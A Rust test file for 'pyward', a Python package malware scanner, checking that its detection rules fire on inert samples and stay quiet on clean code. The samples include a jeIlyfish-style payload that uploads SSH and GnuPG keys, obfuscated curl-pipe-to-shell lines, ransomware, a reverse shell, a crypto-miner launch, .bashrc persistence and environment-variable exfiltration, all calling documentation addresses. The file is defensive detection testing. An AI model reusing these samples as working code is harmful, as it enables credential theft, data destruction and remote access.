//! Inert samples modelled on documented campaigns, clean code, and hostile inputs.
//! Every "attacker" address is a documentation address (RFC 5737); nothing here is ever run.

use base64::Engine;
use pyward_analyze::{
    analyze_file, analyze_package, score, FileAnalysis, Options, Rule, SUSPICIOUS,
};
use pyward_core::{Finding, InstalledKind, Location, Package, PackageSource};
use pyward_inventory::{EntryKind, FileEntry, MemTree};
use std::collections::{BTreeSet, HashMap};
use std::io::Write;
use std::sync::Arc;

fn zlib(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn b64(data: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(data)
}

fn ids(fa: &FileAnalysis) -> BTreeSet<&'static str> {
    fa.rules.iter().map(|r| r.id()).collect()
}

fn evidence<'a>(f: &'a Finding, key: &str) -> Vec<&'a str> {
    f.evidence
        .iter()
        .filter(|e| e.key == key)
        .map(|e| e.value.as_str())
        .collect()
}

/// Second stage of a jeIlyfish-style payload (modelled on the 2019 report by Lukas Martini:
/// fetches code from a hard-coded IP and uploads ~/.ssh and ~/.gnupg). Inert: documentation IP.
const JEILYFISH_STAGE: &str = r#"
import os, urllib.request, platform
def grab():
    out = {}
    for d in ('~/.ssh', '~/.gnupg'):
        p = os.path.expanduser(d)
        for root, dirs, files in os.walk(p):
            for f in files:
                out[os.path.join(root, f)] = open(os.path.join(root, f), 'rb').read()
    for d in ('~', '~/Documents', '~/Downloads', '~/PycharmProjects'):
        out[d] = os.listdir(os.path.expanduser(d))
    urllib.request.urlopen('http://192.0.2.44:32258/upload', data=repr(out).encode())
exec(urllib.request.urlopen('http://192.0.2.44:32258/stage2').read())
grab()
"#;

fn jeilyfish_sample() -> String {
    let blob = b64(&zlib(JEILYFISH_STAGE.as_bytes()));
    format!(
        "import zlib as _z, base64\n\ndef jaro_distance(a, b):\n    return 0.0\n\n\
         exec(_z.decompress(base64.b64decode('{blob}')))\n"
    )
}

#[test]
fn jeilyfish_style_payload_is_flagged_with_the_decoded_stage() {
    let fa = analyze_file(
        "jeIlyfish/_jellyfish.py",
        jeilyfish_sample().as_bytes(),
        &Options::default(),
    );
    let got = ids(&fa);
    for want in [
        "obfuscated-exec",
        "raw-ip-url",
        "exfiltration",
        "download-exec",
        "dir-recon",
    ] {
        assert!(got.contains(want), "missing {want} in {got:?}");
    }
    assert!(score(&fa.rules) >= 9.0, "score {}", score(&fa.rules));
    let obf = fa
        .findings
        .iter()
        .find(|f| f.rule_id == "heuristics.obfuscated-exec")
        .unwrap();
    assert_eq!(obf.gate, "heuristics");
    assert_eq!(obf.trigger, "obfuscated-exec");
    assert_eq!(obf.line, Some(6));
    assert!(
        evidence(obf, "decoded_layer")[0].contains("base64 → zlib"),
        "{:?}",
        obf.evidence
    );
    assert!(
        evidence(obf, "decoded.url")
            .iter()
            .any(|u| u.contains("192.0.2.44:32258")),
        "{:?}",
        obf.evidence
    );
    assert!(
        evidence(obf, "decoded.path")
            .iter()
            .any(|p| p.contains("~/.gnupg")),
        "{:?}",
        obf.evidence
    );
    let ex = fa
        .findings
        .iter()
        .find(|f| f.rule_id == "heuristics.exfiltration")
        .unwrap();
    let paths = evidence(ex, "path").join(" ");
    assert!(
        paths.contains("~/.ssh") && paths.contains("~/.gnupg"),
        "{paths}"
    );
    assert!(evidence(ex, "url")
        .iter()
        .any(|u| u.starts_with("http://192.0.2.44:32258/")));
    assert!(!ex.mitre.is_empty());
    let ip = fa
        .findings
        .iter()
        .find(|f| f.rule_id == "heuristics.raw-ip-url")
        .unwrap();
    assert!(ip.message.contains("192.0.2.44"), "{}", ip.message);
}

#[test]
fn aliases_and_reflection_are_resolved() {
    let src = r#"
from os import system as s
import subprocess as sp
import base64 as b
s(b.b64decode("ZWNobyBoaQ==").decode())
getattr(__import__('os'), 'system')('id')
x = b.b64decode('cHJpbnQoMSk=')
eval(x)
"#;
    let fa = analyze_file("m.py", src.as_bytes(), &Options::default());
    let got = ids(&fa);
    assert!(got.contains("api-obfuscation"), "{got:?}");
    assert!(got.contains("obfuscated-exec"), "{got:?}");
    let api = fa
        .findings
        .iter()
        .find(|f| f.trigger == "api-obfuscation")
        .unwrap();
    assert!(api.message.contains("os.system"), "{}", api.message);
}

#[test]
fn layered_encodings_decode() {
    // rot13, reversed string, chr() join and bytes.fromhex, each hiding an exec payload.
    let code = "import os; os.system(\"curl http://203.0.113.9/x | sh\")";
    let rev: String = code.chars().rev().collect();
    let chrs: Vec<String> = code.bytes().map(|b| b.to_string()).collect();
    let hexed: String = code.bytes().map(|b| format!("{b:02x}")).collect();
    let rot: String = code
        .chars()
        .map(|c| match c {
            'a'..='z' => (((c as u8 - b'a' + 13) % 26) + b'a') as char,
            'A'..='Z' => (((c as u8 - b'A' + 13) % 26) + b'A') as char,
            c => c,
        })
        .collect();
    for src in [
        format!("import codecs\nexec(codecs.decode('{rot}', 'rot13'))\n"),
        format!("exec('{rev}'[::-1])\n"),
        format!("exec(''.join(chr(c) for c in [{}]))\n", chrs.join(",")),
        format!("exec(''.join(map(chr, [{}])))\n", chrs.join(",")),
        format!("exec(bytes.fromhex('{hexed}').decode())\n"),
        format!(
            "p = 'aW1wb3J0IG9zOyBvcy5zeXN0ZW0o' + '{}'\nexec(__import__('base64').b64decode(p))\n",
            &b64(code.as_bytes())[28..]
        ),
    ] {
        let fa = analyze_file("x.py", src.as_bytes(), &Options::default());
        let got = ids(&fa);
        assert!(got.contains("obfuscated-exec"), "{src}: {got:?}");
        assert!(got.contains("download-exec"), "{src}: {got:?}");
        assert!(got.contains("raw-ip-url"), "{src}: {got:?}");
    }
}

/// The Jupyter ransomware of incident 2: walk a path, encrypt every file, delete the
/// originals, delete itself. Inert: the key is random and nothing runs it.
const RANSOMWARE: &str = r#"
import os, sys
from cryptography.fernet import Fernet

key = Fernet.generate_key()
f = Fernet(key)
for root, dirs, files in os.walk(sys.argv[1]):
    for name in files:
        p = os.path.join(root, name)
        with open(p, 'rb') as fh:
            data = fh.read()
        with open(p + '.enc', 'wb') as fh:
            fh.write(f.encrypt(data))
        os.remove(p)
os.remove(__file__)
"#;

const XOR_RANSOMWARE: &str = r#"
import os, sys, pathlib
K = 0x5A
for path in pathlib.Path('/home/jovyan').rglob('*'):
    if path.is_file():
        data = bytearray(path.read_bytes())
        for i in range(len(data)):
            data[i] ^= K
        path.write_bytes(bytes(data))
        path.rename(str(path) + '.locked')
os.unlink(sys.argv[0])
"#;

#[test]
fn ransomware_is_mass_encryption_and_self_deletion() {
    for src in [RANSOMWARE, XOR_RANSOMWARE] {
        let fa = analyze_file("enc.py", src.as_bytes(), &Options::default());
        let got = ids(&fa);
        assert!(got.contains("mass-encryption"), "{got:?}");
        assert!(got.contains("self-delete"), "{got:?}");
        assert!(score(&fa.rules) >= SUSPICIOUS);
    }
}

const REQUESTS_LIKE: &str = r#"
"""A small HTTP library (inert copy of requests-style code)."""
import os
import sys
import socket
from urllib.parse import urlparse
from .adapters import HTTPAdapter

DEFAULT_TIMEOUT = 30

class Session:
    def __init__(self):
        self.headers = {'User-Agent': 'python-requests/2.32'}
        self.proxies = {k: v for k, v in os.environ.items() if k.endswith('_proxy')}
        self.trust_env = True

    def request(self, method, url, **kw):
        parsed = urlparse(url)
        if parsed.scheme not in ('http', 'https'):
            raise ValueError('bad scheme %r' % url)
        conn = socket.create_connection((parsed.hostname, parsed.port or 443), DEFAULT_TIMEOUT)
        return conn

    def get(self, url, **kw):
        return self.request('GET', url, **kw)

def get_netrc_auth(url):
    netrc_path = os.path.expanduser('~/.netrc')
    if not os.path.exists(netrc_path):
        return None
    return None

def where():
    return os.path.join(os.path.dirname(__file__), 'cacert.pem')
"#;

const JELLYFISH_LIKE: &str = r#"
import unicodedata

def levenshtein_distance(s1, s2):
    if s1 == s2:
        return 0
    rows = len(s1) + 1
    cols = len(s2) + 1
    cur = list(range(cols))
    for r in range(1, rows):
        prev, cur = cur, [r] + [0] * (cols - 1)
        for c in range(1, cols):
            cur[c] = min(prev[c] + 1, cur[c - 1] + 1, prev[c - 1] + (s1[r - 1] != s2[c - 1]))
    return cur[-1]

def hamming_distance(s1, s2):
    return sum(a != b for a, b in zip(s1, s2)) + abs(len(s1) - len(s2))

def soundex(s):
    s = unicodedata.normalize('NFKD', s).upper()
    codes = ''.join(chr(c) for c in [66, 70, 80, 86])
    return s[:1] + codes
"#;

const SETUP_CLEAN: &str = r#"
from setuptools import setup, find_packages
about = {}
with open('pkg/__version__.py') as f:
    exec(f.read(), about)
setup(name='pkg', version=about['__version__'], packages=find_packages())
"#;

#[test]
fn clean_code_is_not_flagged() {
    for (name, src) in [
        ("requests/sessions.py", REQUESTS_LIKE),
        ("jellyfish/_jellyfish.py", JELLYFISH_LIKE),
        ("setup.py", SETUP_CLEAN),
    ] {
        let fa = analyze_file(name, src.as_bytes(), &Options::default());
        assert!(
            score(&fa.rules) < SUSPICIOUS,
            "{name}: {:?} score {}",
            ids(&fa),
            score(&fa.rules)
        );
        assert!(
            !fa.rules
                .iter()
                .any(|r| r.kind() == pyward_analyze::Kind::Threat),
            "{name}: {:?}",
            ids(&fa)
        );
    }
}

#[test]
fn install_time_rules() {
    let setup = r#"
from setuptools import setup
from setuptools.command.install import install
import subprocess
class PostInstall(install):
    def run(self):
        subprocess.Popen(['sh', '-c', 'echo hi'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        install.run(self)
setup(name='x', cmdclass={'install': PostInstall})
"#;
    let fa = analyze_file("pkg/setup.py", setup.as_bytes(), &Options::default());
    let got = ids(&fa);
    for want in ["install-hook", "install-time-code", "silent-process"] {
        assert!(got.contains(want), "{want}: {got:?}");
    }
    let init = "import requests\nrequests.post('https://discord.com/api/webhooks/1/x', json={'t': 1})\ndef f():\n    import os\n    os.system('ls')\n";
    let fa = analyze_file("pkg/__init__.py", init.as_bytes(), &Options::default());
    let got = ids(&fa);
    assert!(
        got.contains("install-time-code") && got.contains("shady-destination"),
        "{got:?}"
    );
    let itc = fa
        .findings
        .iter()
        .find(|f| f.trigger == "install-time-code")
        .unwrap();
    assert_eq!(itc.line, Some(2));
}

#[test]
fn other_rules_fire_on_their_samples() {
    let cases: [(&str, &str); 8] = [
        ("reverse-shell", "import socket,os,pty\ns=socket.socket()\ns.connect(('192.0.2.7',4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\npty.spawn('/bin/sh')\n"),
        ("crypto-miner", "import subprocess\nsubprocess.Popen(['./xmrig', '-o', 'stratum+tcp://198.51.100.3:3333', '--donate-level', '1'])\n"),
        ("persistence", "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('python3 -m evil &\\n')\n"),
        ("clipboard", "import pyperclip\nx = pyperclip.paste()\n"),
        ("unicode", "access_level = 'user'\nif access_level != 'none\u{202e} \u{2066}':\n    pass\n"),
        ("shady-destination", "import urllib.request\nurllib.request.urlopen('https://ipinfo.io/json')\n"),
        ("steganography", "from stegano import lsb\nexec(lsb.reveal('cat.png'))\n"),
        ("exfiltration", "import os, json, requests\nrequests.post('https://webhook.site/abc', data=json.dumps(dict(os.environ)))\n"),
    ];
    for (rule, src) in cases {
        let fa = analyze_file("x.py", src.as_bytes(), &Options::default());
        assert!(ids(&fa).contains(rule), "{rule}: {:?}", ids(&fa));
        let f = fa.findings.iter().find(|f| f.trigger == rule).unwrap();
        assert_eq!(f.rule_id, format!("heuristics.{rule}"));
        assert!(!f.mitre.is_empty() && f.line.is_some());
    }
}

#[test]
fn rule_catalogue_is_complete() {
    let mut seen = BTreeSet::new();
    for r in Rule::ALL {
        assert!(seen.insert(r.id()), "duplicate id {}", r.id());
        assert!(!r.description().is_empty() && !r.mitre().is_empty());
        assert!(r.mitre().iter().all(|m| m.id.starts_with('T')));
    }
}

#[test]
fn scores_separate_capabilities_from_threats() {
    let caps: BTreeSet<Rule> = [
        Rule::SilentProcess,
        Rule::RawIpUrl,
        Rule::SensitiveFileRead,
        Rule::Clipboard,
    ]
    .into();
    assert!(score(&caps) < SUSPICIOUS);
    let read_only: BTreeSet<Rule> = [Rule::SensitiveFileRead].into();
    let read_send: BTreeSet<Rule> = [Rule::SensitiveFileRead, Rule::Exfiltration].into();
    assert!(score(&read_send) > score(&read_only) + 4.0);
    assert_eq!(score(&BTreeSet::new()), 0.0);
    let all: BTreeSet<Rule> = Rule::ALL.into_iter().collect();
    assert!(score(&all) <= 10.0);
}

// ---------------------------------------------------------------------------------------------
// Hostile input

#[test]
fn binary_named_py_is_skipped_with_a_note() {
    let mut bin = b"\x7fELF\x02\x01\x01\0\0\0".to_vec();
    bin.extend(std::iter::repeat_n(0u8, 4096));
    let fa = analyze_file("evil.py", &bin, &Options::default());
    assert!(fa.findings.is_empty());
    assert!(
        fa.notes.iter().any(|n| n.to_string().contains("binary")),
        "{:?}",
        fa.notes
    );
}

#[test]
fn huge_file_uses_the_fallback_and_still_finds() {
    let opts = Options {
        max_parse_bytes: 64 * 1024,
        ..Default::default()
    };
    let mut src = String::from("import os\n");
    while src.len() < 200 * 1024 {
        src.push_str("x = 1  # padding\n");
    }
    src.push_str("os.remove(__file__)\n");
    let fa = analyze_file("big.py", src.as_bytes(), &opts);
    assert!(
        fa.notes
            .iter()
            .any(|n| n.to_string().contains("token fallback")),
        "{:?}",
        fa.notes
    );
    assert!(ids(&fa).contains("self-delete"), "{:?}", ids(&fa));
}

#[test]
fn minified_one_line_and_deep_nesting_are_bounded() {
    let line: String = (0..20_000).map(|i| format!("a{i}=({i}+1);")).collect();
    let fa = analyze_file("min.py", line.as_bytes(), &Options::default());
    assert!(fa.findings.is_empty());
    let deep = format!(
        "exec(base64.b64decode({}'eA=='{}))\n",
        "(".repeat(5000),
        ")".repeat(5000)
    );
    let fa = analyze_file("deep.py", deep.as_bytes(), &Options::default());
    assert!(
        fa.notes
            .iter()
            .any(|n| n.to_string().contains("nested deeper")),
        "{:?}",
        fa.notes
    );
    let deep_list = format!(
        "exec(base64.b64decode({}1{}))\n",
        "[".repeat(100_000),
        "]".repeat(100_000)
    );
    let t = std::time::Instant::now();
    let _ = analyze_file("deep2.py", deep_list.as_bytes(), &Options::default());
    assert!(t.elapsed().as_secs() < 20);
}

#[test]
fn decompression_bomb_in_a_literal_is_capped() {
    let bomb = zlib(&vec![b'A'; 64 * 1024 * 1024]);
    let src = format!(
        "import zlib, base64\nexec(zlib.decompress(base64.b64decode('{}')))\n",
        b64(&bomb)
    );
    let opts = Options {
        max_decoded_bytes: 1024 * 1024,
        ..Default::default()
    };
    let fa = analyze_file("bomb.py", src.as_bytes(), &opts);
    assert!(
        fa.notes
            .iter()
            .any(|n| n.to_string().contains("decompression bomb")),
        "{:?}",
        fa.notes
    );
    assert!(ids(&fa).contains("obfuscated-exec"), "{:?}", ids(&fa));
}

#[test]
fn non_utf8_and_python2_sources_are_read() {
    let mut latin = b"# -*- coding: latin-1 -*-\nimport os\nname = '".to_vec();
    latin.extend_from_slice(&[0xe9, 0xe8]);
    latin.extend_from_slice(b"'\nos.remove(__file__)\n");
    let fa = analyze_file("l1.py", &latin, &Options::default());
    assert!(
        fa.notes.iter().any(|n| n.to_string().contains("not UTF-8")),
        "{:?}",
        fa.notes
    );
    assert!(ids(&fa).contains("self-delete"));
    let py2 = "import urllib2, os\nprint 'hello'\nexec urllib2.urlopen('http://198.51.100.20/p').read()\nos.unlink(__file__)\n";
    let fa = analyze_file("p2.py", py2.as_bytes(), &Options::default());
    let got = ids(&fa);
    assert!(
        got.contains("raw-ip-url") && got.contains("self-delete"),
        "{got:?}"
    );
    let mut utf16 = vec![0xff, 0xfe];
    for u in "import os\nos.remove(__file__)\n".encode_utf16() {
        utf16.extend_from_slice(&u.to_le_bytes());
    }
    assert!(ids(&analyze_file("u16.py", &utf16, &Options::default())).contains("self-delete"));
}

#[test]
fn random_bytes_never_panic() {
    let mut x: u64 = 0x9e3779b97f4a7c15;
    for len in [0usize, 1, 7, 100, 5000] {
        for _ in 0..20 {
            let bytes: Vec<u8> = (0..len)
                .map(|_| {
                    x ^= x << 13;
                    x ^= x >> 7;
                    x ^= x << 17;
                    let alphabet = b"exec(b64decode('\"\\x)[]{}:#\n 0aZ=+/";
                    alphabet[(x % alphabet.len() as u64) as usize]
                })
                .collect();
            let _ = analyze_file("r.py", &bytes, &Options::default());
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Packages

fn tree(files: &[(&str, &[u8])]) -> MemTree {
    let mut entries = Vec::new();
    let mut contents = HashMap::new();
    for (p, b) in files {
        entries.push(FileEntry {
            path: (*p).to_string(),
            kind: EntryKind::File,
            size: b.len() as u64,
            mode: 0o644,
            layer: None,
        });
        contents.insert((*p).to_string(), Arc::<[u8]>::from(*b));
    }
    MemTree::from_parts("test", entries, contents, Vec::new())
}

fn package(name: &str, files: &[&str]) -> Package {
    let mut p = Package::new(
        name,
        Some("0.6".into()),
        PackageSource::Installed(InstalledKind::DistInfo),
        Location::new(format!("/site-packages/{name}-0.6.dist-info/METADATA")),
    );
    p.files = files.iter().map(|s| s.to_string()).collect();
    p
}

#[test]
fn analyze_package_scores_the_package_and_skips_missing_files() {
    let sample = jeilyfish_sample();
    let t = tree(&[
        (
            "/site-packages/jeIlyfish/__init__.py",
            b"from ._jellyfish import *\n",
        ),
        ("/site-packages/jeIlyfish/_jellyfish.py", sample.as_bytes()),
        ("/site-packages/jeIlyfish/data.bin", b"\0\0"),
    ]);
    let p = package(
        "jeIlyfish",
        &[
            "/site-packages/jeIlyfish/__init__.py",
            "/site-packages/jeIlyfish/_jellyfish.py",
            "/site-packages/jeIlyfish/missing.py",
            "/site-packages/jeIlyfish/data.bin",
        ],
    );
    let findings = analyze_package(&t, &p, &Options::default());
    assert!(!findings.is_empty());
    for f in &findings {
        assert_eq!(f.package.as_ref().unwrap().name, "jeIlyfish");
        let s: f64 = evidence(f, "score")[0].parse().unwrap();
        assert!(s >= 9.0, "{s}");
        assert_eq!(f.action, pyward_core::Action::Warn);
        // Code findings point at the file; metadata findings at the package's METADATA.
        let want = if f.trigger == "empty-metadata" {
            "/site-packages/jeIlyfish-0.6.dist-info/METADATA"
        } else {
            "/site-packages/jeIlyfish/_jellyfish.py"
        };
        assert_eq!(f.path.as_deref(), Some(want));
    }
    let t = tree(&[(
        "/site-packages/jellyfish/_jellyfish.py",
        JELLYFISH_LIKE.as_bytes(),
    )]);
    let clean = analyze_package(
        &t,
        &package("jellyfish", &["/site-packages/jellyfish/_jellyfish.py"]),
        &Options::default(),
    );
    assert!(clean.is_empty(), "{clean:?}");
}

#[test]
fn oversized_file_in_a_package_is_noted() {
    let big = vec![b'#'; 4096];
    let t = tree(&[("/p/big.py", &big)]);
    let opts = Options {
        max_file_bytes: 1024,
        ..Default::default()
    };
    let (f, notes) =
        pyward_analyze::analyze_package_detailed(&t, &package("p", &["/p/big.py"]), &opts);
    assert!(f.is_empty());
    assert!(
        notes
            .iter()
            .any(|n| n.to_string().contains("big.py") && n.message.contains("limit")),
        "{notes:?}"
    );
}

#[test]
fn capability_only_packages_report_nothing_and_notes_are_capped() {
    let src = b"import subprocess\nsubprocess.run(['git', 'status'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\nopen('/home/u/.ssh/known_hosts')\nimport requests\n";
    let fa = analyze_file("x/tool.py", src, &Options::default());
    assert!(!fa.rules.is_empty(), "capabilities are still seen per file");
    let t = tree(&[("/sp/tool.py", src)]);
    assert!(
        analyze_package(&t, &package("tool", &["/sp/tool.py"]), &Options::default()).is_empty()
    );
    let bin = b"\0\0\0\0".to_vec();
    let notes: Vec<_> = (0..30)
        .flat_map(|i| analyze_file(&format!("b{i}.py"), &bin, &Options::default()).notes)
        .collect();
    let shown = pyward_analyze::notes_for_report(&notes, 10);
    assert_eq!(shown.len(), 11);
    assert!(shown[10].message.contains("20 more"));
}

#[test]
fn parse_time_limit_falls_back_to_tokens() {
    let mut src = String::from("import os, base64\n");
    while src.len() < 2 * 1024 * 1024 {
        src.push_str("def f(a, b):\n    return base64.b64decode(a) + b\n");
    }
    src.push_str("os.remove(__file__)\n");
    let opts = Options {
        file_time: std::time::Duration::ZERO,
        ..Default::default()
    };
    let fa = analyze_file("slow.py", src.as_bytes(), &opts);
    assert!(
        fa.notes
            .iter()
            .any(|n| n.kind == pyward_analyze::NoteKind::Fallback),
        "{:?}",
        fa.notes
    );
    assert!(ids(&fa).contains("self-delete"), "{:?}", ids(&fa));
}

#[test]
fn metadata_signals_join_the_package_score() {
    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
    elf.extend(std::iter::repeat_n(0u8, 64));
    let t = tree(&[
        (
            "/sp/evilpkg/__init__.py",
            b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        ),
        ("/sp/evilpkg/helper", &elf),
        ("/sp/evilpkg/data.json", b"{}"),
    ]);
    let mut p = package(
        "evilpkg",
        &[
            "/sp/evilpkg/__init__.py",
            "/sp/evilpkg/helper",
            "/sp/evilpkg/data.json",
        ],
    );
    p.version = Some("0.0.0".into());
    let f = analyze_package(&t, &p, &Options::default());
    let rules: BTreeSet<&str> = f.iter().map(|f| f.trigger.as_str()).collect();
    for want in [
        "bundled-binary",
        "release-zero",
        "single-module",
        "empty-metadata",
        "obfuscated-exec",
    ] {
        assert!(rules.contains(want), "{want}: {rules:?}");
    }
    let bin = f.iter().find(|f| f.trigger == "bundled-binary").unwrap();
    assert!(bin.message.contains("ELF"), "{}", bin.message);
    // The same package with a summary, a real version and a compiled extension: no metadata rules.
    let t = tree(&[
        (
            "/sp/ok/__init__.py",
            b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        ),
        ("/sp/ok/_c.so", &elf),
        ("/sp/ok/util.py", b"x = 1\n"),
    ]);
    let mut p = package(
        "ok",
        &["/sp/ok/__init__.py", "/sp/ok/_c.so", "/sp/ok/util.py"],
    );
    p.summary = Some("Useful things".into());
    let f = analyze_package(&t, &p, &Options::default());
    assert!(
        f.iter().all(|f| !matches!(
            f.trigger.as_str(),
            "bundled-binary" | "release-zero" | "single-module" | "empty-metadata"
        )),
        "{f:?}"
    );
}

#[test]
fn many_small_bombs_share_one_budget() {
    // 200 distinct 1 MiB zlib bombs (a few KB each in the source): decoding stops at the file's
    // total budget instead of materialising 200 MiB.
    let mut src = String::from("import zlib, base64\n");
    for i in 0..200u32 {
        let mut data = vec![b'A'; 1024 * 1024];
        data.extend_from_slice(i.to_string().as_bytes());
        src.push_str(&format!(
            "exec(zlib.decompress(base64.b64decode('{}')))\n",
            b64(&zlib(&data))
        ));
    }
    let opts = Options {
        max_decoded_bytes: 2 * 1024 * 1024,
        ..Default::default()
    };
    let t = std::time::Instant::now();
    let fa = analyze_file("bombs.py", src.as_bytes(), &opts);
    assert!(t.elapsed().as_secs() < 30);
    assert!(
        fa.notes
            .iter()
            .any(|n| n.message.contains("decompression bomb")),
        "{:?}",
        fa.notes
    );
    assert!(ids(&fa).contains("obfuscated-exec"));
}
